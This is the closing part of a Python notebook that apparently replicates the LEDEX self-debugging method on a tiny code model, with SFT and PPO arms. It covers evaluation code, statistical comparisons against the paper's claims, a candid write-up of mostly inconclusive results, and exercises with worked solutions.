EXPLAIN = {arm: {} for arm in ("ledex", "ppo")}  # arm -> seed -> per-mutant scores
for arm in EXPLAIN:
    for seed in SEEDS:
        replies = selfdebug.model_generate(MODELS[arm][seed], TOKENIZER, MAX_NEW_TOKENS, temperature=0.0, batch_size=128)(
            [r["messages"][0]["content"] for r in DEBUG_TEST])
        EXPLAIN[arm][seed] = selfdebug.score_replies(DEBUG_TEST, replies)
        if seed == SEEDS[0]:
            print(f"--- {LABELS[arm]} (seed {seed}), to mutant 0:\n{replies[0]}")
PARTS = {"format": lambda x: float(not x["reason"]), "fixed": lambda x: float(x["pass_rate"] == 1.0),
         "pass_rate": lambda x: x["pass_rate"], "explanation_score": lambda x: x["explanation_score"]}
explain_items = lambda arm, key: np.array([[PARTS[key](x) for x in EXPLAIN[arm][s]] for s in SEEDS])  # noqa: E731
display(Markdown(f"{len(DEBUG_TEST)} mutants of the held-out tasks, % (mean [95% interval])\n\n| model | in the format | "
                 "refinement passes all tests | test pass rate | explanation score |\n|---|---|---|---|---|\n" + "\n".join(
                     f"| {LABELS[arm]} | " + " | ".join(ci_text(explain_items(arm, key)) for key in PARTS) + " |"
                     for arm in EXPLAIN)))

# %% [markdown]
# ## 8. Against the paper, and the verdict
#
# The paper's gains are the largest over its four benchmarks and its models (StarCoder-15B, CodeLlama-7B and
# -13B), measured against the same model before the training; ours are measured on the held-out tasks after
# `ROUNDS` refinement rounds, in percentage points. Every verdict is `sftkit.stats.compare` on per-task pass@1
# (seeds x tasks, paired on the same tasks): the difference, its 95% interval, n, the MDE (the smallest true
# difference this design detects with 80% power) and the verdict. The two headline claims were named before the
# runs; the secondary comparisons form one Holm-corrected family, the per-split ones another (exploratory).

# %%
HEADLINE = {("ledex", "sized"): "up to +15.92", ("ppo", "ledex"): "up to +3.54"}
VERDICTS = {(a, b): stats.compare(items(a, ROUNDS), items(b, ROUNDS)) for a, b in HEADLINE}
lines = [f"| headline (pass@1 after {ROUNDS} rounds) | paper (points) | ours: diff [95% CI], n, MDE: verdict |", "|---|---|---|"]
lines += [f"| {LABELS[a]} vs {LABELS[b]} | {paper} | {VERDICTS[(a, b)]} |" for (a, b), paper in HEADLINE.items()]
display(Markdown("\n".join(lines)))
gain = lambda arm: items(arm, ROUNDS) - items(arm, 0)  # noqa: E731  per-task gain from the refinement rounds
SECONDARY = {f"{PK} after {ROUNDS} rounds": lambda a, b: stats.compare(items(a, ROUNDS, N_CHAINS), items(b, ROUNDS, N_CHAINS)),
             "pass@1, first attempt": lambda a, b: stats.compare(items(a, 0), items(b, 0)),
             f"gain over the {ROUNDS} rounds": lambda a, b: stats.compare(gain(a), gain(b))}
family = [(what, a, b, fn(a, b)) for what, fn in SECONDARY.items() for a, b in HEADLINE]
for (what, a, b, c), p in zip(family, stats.holm([c.p_value for *_, c in family])):
    print(f"{what}: {c.sentence(LABELS[a], LABELS[b])} Holm p = {p:.3f}")
per_split = [(sp, a, b, stats.compare(items(a, ROUNDS, split=sp), items(b, ROUNDS, split=sp)))
             for sp in EVAL_SPLITS for a, b in HEADLINE]
print("\nper split, pass@1 after the last round (exploratory):")
for (sp, a, b, c), p in zip(per_split, stats.holm([c.p_value for *_, c in per_split])):
    print(f"  {sp}: {LABELS[a]} vs {LABELS[b]}: {c.summary()}; Holm p = {p:.3f}")
print(stats.RULE)

# %%
PPO_VARIANT = f"LEDEX SFT -> PPO ({PPO_STEPS} steps, selfdebug reward)"
KEY = results.items_key([task["id"] for task in EVAL])


def rows_of(arm, seed):
    run = {"method": {"start": "sft", "sized": "sft", "ledex": "selfdebug", "ppo": "ppo"}[arm],
           "variant": PPO_VARIANT if arm == "ppo" else LABELS[arm], "model": str(MODEL_NAME), "seed": seed,
           "device": DEVICE, "steps": {"start": START_STEPS, "sized": STEPS, "ledex": STEPS, "ppo": PPO_STEPS}[arm],
           "train_seconds": COST[arm][seed][0], "step_time_s": COST[arm][seed][1],
           "train_config": {"start": train_settings(START), "sized": train_settings(ARM), "ledex": train_settings(ARM),
                            "ppo": {"online": ONLINE.__dict__, "ppo": PPO_CONFIG.__dict__}}[arm]}
    out, k_index = [], list(OUT[arm]).index(seed)
    for r in range(len(OUT[arm][seed]["passed"])):
        for k in KS:
            scores = items(arm, r, k)[k_index]
            out.append(results.metric_row(f"pass@{k} round {r}", scores.mean(), "code-heldout", n=len(EVAL), items_key=KEY,
                                          items=results.encode_items(list(scores)), **run))
    if arm in EXPLAIN:
        for key in PARTS:
            scores = explain_items(arm, key)[SEEDS.index(seed)]
            out.append(results.metric_row(f"debug_{key}", scores.mean(), "mutants-heldout", n=len(DEBUG_TEST),
                                          items=results.encode_items(list(scores)),
                                          items_key=results.items_key([r["id"] for r in DEBUG_TEST]), **run))
    return out


ROWS = [row for arm in LABELS for seed in OUT[arm] for row in rows_of(arm, seed)]
path = results.update(NOTEBOOK, ROWS)
print(f"saved {len(ROWS)} rows to {path.parent.name}/{path.name}")

# %% [markdown]
# ## What we saw
#
# The numbers below are this run's, computed from the cells above.

# %%
c_sft, c_rl = VERDICTS[("ledex", "sized")], VERDICTS[("ppo", "ledex")]
first = {arm: 100 * items(arm, 0).mean() for arm in LABELS}
final = {arm: 100 * items(arm, ROUNDS).mean() for arm in TRAINED}
fmt = {arm: 100 * explain_items(arm, "format").mean() for arm in EXPLAIN}
fixed = {arm: 100 * explain_items(arm, "fixed").mean() for arm in EXPLAIN}
display(Markdown(f"""
- **The evaluation set.** The start model passes {first['start']:.1f}% of first attempts on the {len(EVAL)} held-out tasks
  (neither 0 nor 100%; by split in section 7).
- **Claim 1, SFT on LEDEX data.** After {ROUNDS} rounds LEDEX SFT reaches pass@1 {final['ledex']:.1f}% against
  {final['sized']:.1f}% for the size-matched control: {c_sft} (the paper: up to +15.92). First attempts:
  {first['ledex']:.1f}% vs {first['sized']:.1f}%.
- **Claim 2, RL.** {PPO_STEPS} PPO steps on the SFT model's own failures at fresh tasks: pass@1 after {ROUNDS} rounds
  {final['ppo']:.1f}% vs {final['ledex']:.1f}%: {c_rl} (the paper: up to +3.54).
- **Explaining known bugs** (greedy, {len(DEBUG_TEST)} held-out mutants): in the format {fmt['ledex']:.0f}% (LEDEX SFT),
  {fmt['ppo']:.0f}% (-> PPO); refinement passes every test: {fixed['ledex']:.0f}% and {fixed['ppo']:.0f}%.
"""))

# %% [markdown]
# **What the full run showed** *(written from the full run's outputs above; a re-run prints its own numbers and
# verdicts, read those first)*
#
# - **The evaluation set is off the ceiling and the floor.** The start model passes 27.5% of first attempts on
#   the 100 held-out tasks (70 tasks it never passes, 25 it always passes, the rest in between; by split 58.0,
#   24.0 and 4.0% on `wording`, `larger`, `composed`), and no trained arm sits at 95% or 2% overall.
# - **Claim 1 (SFT on LEDEX data) is not shown here.** After 2 rounds LEDEX SFT's pass@1 is 44.0% against 37.3%
#   for the size-matched control: +6.7 points [-6.8, +20.2], MDE 18.6, inconclusive. The interval is wide
#   because the seeds disagree: the control's own interval is [21.7, 53.0], and the per-split comparisons of
#   section 8 have intervals about 95 to 170 points wide on `wording` and `larger`, the splits furthest from the SFT data (an unseen
#   phrasing, 3-digit constants). The paper's up to +15.92 lies
#   inside our interval; so does 0. More seeds (or start models), not more tasks, would narrow it.
# - **What LEDEX SFT does do, measurably: refinement.** Its pass@1 rises over the rounds (41.8 -> 42.7 -> 44.0%),
#   the control's does not move (it never answers a debug prompt in the format, 0%); the gain over the rounds,
#   +2.2 points [+0.6, +3.7], is "above" even after Holm correction of the secondary family (p = 0.046). The
#   control's gain is 0 on every task in every seed (it counts as one seed), so this tests LEDEX's gain against zero. Small:
#   most failing chains stay failing, and only 62% (round 1) and 43% (round 2) of its debug replies are in the
#   format. The per-split table says where: `composed` 0.0 -> 6.0% and `wording` 74.0 -> 76.7%, while `larger`
#   does not move (copying the expected value from the feedback was not learned).
# - **Claim 2 (RL adds to it) is not shown either.** 50 PPO steps on each seed's own failing attempts at fresh
#   tasks (89-104 RL prompts per seed, 400 replies): -1.8 points [-8.8, +5.1], MDE 9.5, inconclusive; the paper's
#   +3.54 is inside the interval. The RL figure shows why little moved: the batch reward stayed negative (most
#   replies to its own hard failures fix nothing: "fixed" 0-8% of the replies over the first and last 10 steps), so the reward mostly paid for the
#   format, which rose on two seeds (62 -> 75%, 59 -> 68%). The KL guard kept seeds 0 and 1 below 1.1 nats; seed 2
#   reached 6.27 nats before beta caught up (2.97 at the last step), so the guard's horizon was too slow for it.
#   On the held-out mutants PPO's replies were in the format slightly more often (93.3 vs 88.9%), not more often
#   right.
# - **Explanations.** Greedy replies to 30 held-out mutants: the explanation score is about 0.3 of the three checks
#   for both models, and under a seventh of their refinements pass every test, well below the teacher's kept
#   replies (1.00).
# - **Against the paper.** The directions are the paper's for SFT (+6.7 points after refinement, +4.5 on first
#   attempts) and for the refinement gain, but at 3 seeds x 100 tasks only the refinement gain is decided; RL's
#   effect is indistinguishable from zero at an MDE of 9.5 points. Not tuned: both SFT arms use lr 1e-3 (the
#   suite's default) and 80 steps, PPO lr 1e-4 with a KL target of 2 nats, one pass per batch.

# %% [markdown]
# How to read these, whatever they are:
#
# - **The size-matched control never saw a debug prompt.** A reply with code replaces the chain's code, so for a
#   model that answers a debug prompt with code of its own, the rounds are further attempts at the task; a reply
#   without code keeps the old code. That is the baseline: a gain of LEDEX over it must come from the debugging
#   data, since both saw the same tasks' gold code as often and trained as long.
# - **Where refinement can help.** A feedback line such as `f(0) returned 46, expected 463.` states the answer's
#   constant outright for `larger`, which a debugger could copy; for `composed` the fix needs a program shape (two
#   operations) that none of the SFT data contains, and `wording` asks familiar programs in an unseen phrasing.
# - **RL saw task kinds the SFT arms did not.** Its prompts are fresh tasks of the `larger` and `composed` kinds
#   (new expressions, not the evaluation tasks); the paper's RL also trains on problems of its benchmarks' kinds. A
#   PPO gain on those splits is the method's, but it is not evidence that PPO helps on kinds it never practised.
# - **Scale.** LEDEX trains 7B-15B models that already write and explain code; here a 1.8M-parameter model learns
#   the reply format, the explanation template and the fix in `STEPS` steps.
#
# ## Exercises
#
# **1. Reward without the explanation.** Set the explanation weight to 0 (reward = test pass rate, -1 unparsed),
# run PPO for seed 0 from the LEDEX SFT model, and compare the explanation score on the held-out mutants with the
# run above. Does the explanation get worse when nothing rewards it?
#
# <details><summary>Hint</summary>
#
# `selfdebug.reward_fn(selfdebug.Config(explanation_weight=0.0))` is the reward; the rest is section 6's PPO call
# and section 7's `score_replies` on `DEBUG_TEST`.
# </details>
#
# <details><summary>Solution</summary>
#
# ```python
# seed = SEEDS[0]
# torch.manual_seed(seed)
# plain = ppo.run(add_lora(copy.deepcopy(MODELS["ledex"][seed]), **ppo.LORA), TOKENIZER, RL_DATA[seed], replace(ONLINE, seed=seed),
#                 PPO_CONFIG, selfdebug.reward_fn(selfdebug.Config(explanation_weight=0.0)))
# replies = selfdebug.model_generate(plain.model.merge_and_unload(), TOKENIZER, MAX_NEW_TOKENS, temperature=0.0)(
#     [r["messages"][0]["content"] for r in DEBUG_TEST])
# s = selfdebug.score_replies(DEBUG_TEST, replies)
# print(f"explanation score {np.mean([x['explanation_score'] for x in s]):.2f} "
#       f"(with weight 0.5: {np.mean([x['explanation_score'] for x in EXPLAIN['ppo'][seed]]):.2f})")
# ```
#
# Read the difference as a hint (one seed each, no interval): the SFT data already fix the explanation's template,
# so expect the explanation score to move less than the format rate. Run more steps (`replace(ONLINE, steps=200)`) to see the two rewards pull apart.
# </details>
#
# **2. Close the proxy's hole.** Section 5 showed that quoting both programs meets the "bug" and "fix" checks. Write
# a stricter explanation score that gives no credit when the explanation contains the whole wrong or the whole gold
# program, and check it on the six candidate replies.
#
# <details><summary>Hint</summary>
#
# `selfdebug.explanation_checks(explanation, wrong, gold, call)` returns the checks; compare
# `selfdebug._squeeze(program)` (whitespace removed) with the squeezed explanation.
# </details>
#
# <details><summary>Solution</summary>
#
# ```python
# def strict_score(explanation, m):
#     text = selfdebug._squeeze(explanation)
#     if selfdebug._squeeze(m["wrong"]) in text or selfdebug._squeeze(m["gold"]) in text:
#         return 0.0
#     checks = selfdebug.explanation_checks(explanation, m["wrong"], m["gold"], m["failing_call"])
#     return sum(checks.values()) / len(checks)
#
# for name, reply in CANDIDATES.items():
#     p = selfdebug.parse_reply(reply)
#     print(f"{name:34s} {strict_score(p.explanation, m) if p.code else float('nan'):.2f}")
# ```
#
# The teacher's reply keeps its score (it quotes fragments, not programs); the gaming reply drops to 0. On
# programs of one line a fragment can be the whole line, so a stricter rule also costs honest explanations of a
# bug in a very short program: check the share of the teacher's kept replies it still scores 1.
# </details>
#
# **3. Is it the explanation?** Train a third arm on the same debug prompts with replies that hold only the fixed
# code (`"Explanation: -\nFixed code:\n..."`: a placeholder, since the parser needs an explanation), same steps, seed 0, and compare its pass@1 after `ROUNDS` rounds with LEDEX
# SFT's. (The paper's ablation finds explanations help the refinement.)
#
# <details><summary>Hint</summary>
#
# Copy `DEBUG` with the assistant turn replaced by `"Explanation: -\nFixed code:\n" + code` (the parser needs a
# non-empty explanation), train as in section 6, evaluate as in section 7.
# </details>
#
# <details><summary>Solution</summary>
#
# ```python
# seed = SEEDS[0]
# bare = [{**r, "messages": [r["messages"][0], {"role": "assistant", "content":
#          "Explanation: -\nFixed code:\n" + selfdebug.parse_reply(r["messages"][1]["content"]).code}]} for r in DEBUG]
# run = train(copy.deepcopy(MODELS["start"][seed]), TOKENIZER, bare + CODE, replace(ARM, seed=seed))
# out = selfdebug.refinement_rounds(EVAL, selfdebug.model_generate(run.model, TOKENIZER, MAX_NEW_TOKENS, seed=seed),
#                                   n=N_CHAINS, rounds=ROUNDS, ks=KS, cache=CACHE)
# print(f"pass@1 after {ROUNDS} rounds: fix only {100 * out['rows'][ROUNDS]['pass@1']:.1f}%, "
#       f"LEDEX SFT {100 * OUT['ledex'][seed]['rows'][ROUNDS]['pass@1']:.1f}%")
# ```
#
# One seed each: the suite's rule counts any gap between two single seeds, so run seeds 1 and 2 before you
# believe it.
# </details>
#
# **4. What verification buys.** Train an arm on every parsed teacher reply, verified or not (the 30% wrong
# refinements included), and compare its fixed share on `DEBUG_TEST` with LEDEX SFT's.
#
# <details><summary>Hint</summary>
#
# `selfdebug.trajectory_record(tr, k)` turns any parsed trajectory of `TRAJ` into an SFT record; train as in section 6
# and score greedy replies on `DEBUG_TEST` as in section 7.
# </details>
#
# <details><summary>Solution</summary>
#
# ```python
# seed = SEEDS[0]
# unverified = [selfdebug.trajectory_record(tr, k) for k, tr in enumerate(tr for tr in TRAJ if tr.code is not None)]
# run = train(copy.deepcopy(MODELS["start"][seed]), TOKENIZER, unverified + CODE, replace(ARM, seed=seed))
# replies = selfdebug.model_generate(run.model, TOKENIZER, MAX_NEW_TOKENS, temperature=0.0)(
#     [r["messages"][0]["content"] for r in DEBUG_TEST])
# s = selfdebug.score_replies(DEBUG_TEST, replies)
# print(f"fixed: unverified data {np.mean([x['pass_rate'] == 1.0 for x in s]):.0%}, "
#       f"verified (LEDEX SFT) {np.mean([x['pass_rate'] == 1.0 for x in EXPLAIN['ledex'][seed]]):.0%}")
# ```
# </details>

# %% [markdown]
# **5. Check yourself: write the unbiased pass@k estimator.** Write `my_pass_at_k(n, c, k)`: with n samples of which c pass every test, the probability that at least one
# of k samples drawn from them passes. Check it with `check_piece(my_pass_at_k, "pass-at-k")`.
#
# <details><summary>Hint</summary>
#
# Count the ways to draw k samples without replacement that are all wrong: C(n - c, k) of C(n, k)
# (`math.comb`). `1 - (1 - c/n)^k` draws with replacement and is biased.
# </details>
#
# <details><summary>Solution</summary>
#
# ```python
# import math
#
# from sftkit.checks import check_piece
#
#
# def my_pass_at_k(n, c, k):
#     return 1 - math.comb(n - c, k) / math.comb(n, k)  # math.comb is 0 when n - c < k: pass@k = 1
#
#
# check_piece(my_pass_at_k, "pass-at-k")
# ```
#
# `sftkit.sandbox.pass_at_k` computes the same product without large binomials (Chen et al. 2021's form), which
# matters for n in the hundreds.
# </details>

# %%
print(f"this run: {(time.time() - T0) / 60:.1f} minutes on {DEVICE} ({'light' if LIGHT else 'full'} profile)")
